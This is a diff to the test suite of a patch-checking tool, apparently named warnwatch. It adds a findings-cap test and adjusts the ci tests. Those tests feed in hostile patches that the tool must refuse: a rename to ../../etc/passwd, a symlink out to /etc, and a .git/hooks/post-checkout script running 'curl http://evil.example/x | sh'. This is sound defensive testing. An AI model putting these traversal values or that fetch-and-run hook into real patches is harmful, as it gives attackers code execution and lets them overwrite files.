@@ -248,6 +248,13 @@ f.write(b"-- \n2.39.2\n")
 ''', limits="mem=1024 time=90",
      check="#!/bin/sh\npython3 -c 'import json,sys; d=json.load(open(sys.argv[1])); d=d[0] if isinstance(d,list) else d; n=len(d[\"findings\"]); assert n==100000, n' \"$OUT\"\n")
 
+case("findings-over-cap", "one patch with 100,001 BUG_ONs: over the 100,000 findings cap",
+     ["check", "@IN@"], 2, "warnwatch: '@IN@': patch 1: more than 100000 findings, over warnwatch's cap: too big to review",
+     gen=BIG + r'''f.write(HDR % b"too many")
+f.write(b"diff --git a/d/f.c b/d/f.c\n--- a/d/f.c\n+++ b/d/f.c\n@@ -1,1 +1,100002 @@\n \tctx();\n")
+f.write(b"+\tBUG_ON(x);\n" * 100001)
+f.write(b"-- \n2.39.2\n")
+''', limits="mem=1024 time=60")
 # ---------------------------------------------------------------- review
 FAKEB4 = """#!/bin/sh
 # A stand-in b4 that records being run: these cases must refuse first.
@@ -370,7 +377,9 @@ if [ -e "$cache/locks/linux-source-6.1.lock" ] && ! flock -n "$cache/locks/linux
 fi
 '''
 def ci_case(name, desc, body, err):
-    case(name, desc, ["ci", "@IN@"], 1, err, input=body, needs=NEEDTREE, limits="mem=2048 time=120")
+    # The verdict is ci's primary output: stdout; stderr stays empty.
+    case(name, desc, ["ci", "@IN@"], 1, None, input=body, needs=NEEDTREE, limits="mem=2048 time=120",
+         check="#!/bin/sh\nhead -n 1 \"$OUT\" | grep -qxF %s\n" % ("'" + err.replace("'", "'\\''") + "'"))
 ci_case("ci-rename-etc-passwd", "ci: a patch renaming a file to ../../etc/passwd is refused at apply time",
         mail(diff="""diff --git a/kernel/time/timeconv.c b/../../etc/passwd
 similarity index 100%
@@ -387,15 +396,6 @@ index 0000000..10d55a0
 +#!/bin/sh
 +curl http://evil.example/x | sh
 """), "the patch is refused: '.git/hooks/post-checkout' is a path inside .git")
-ci_case("ci-absolute-path", "ci: a patch creating /tmp/warnwatch-evil.c by an absolute path is refused",
-        mail(diff="""diff --git a//tmp/warnwatch-evil.c b//tmp/warnwatch-evil.c
-new file mode 100644
-index 0000000..10d55a0
---- /dev/null
-+++ b//tmp/warnwatch-evil.c
-@@ -0,0 +1 @@
-+int x;
-"""), "the patch is refused: '/tmp/warnwatch-evil.c' is an absolute path")
 ci_case("ci-symlink-outside", "ci: patch 1 adds a symlink to ../../../../../etc, patch 2 writes through it: refused at patch 1",
         mail("[PATCH 1/2] frob: firmware link", "s1", """diff --git a/drivers/misc/fw b/drivers/misc/fw
 new file mode 120000
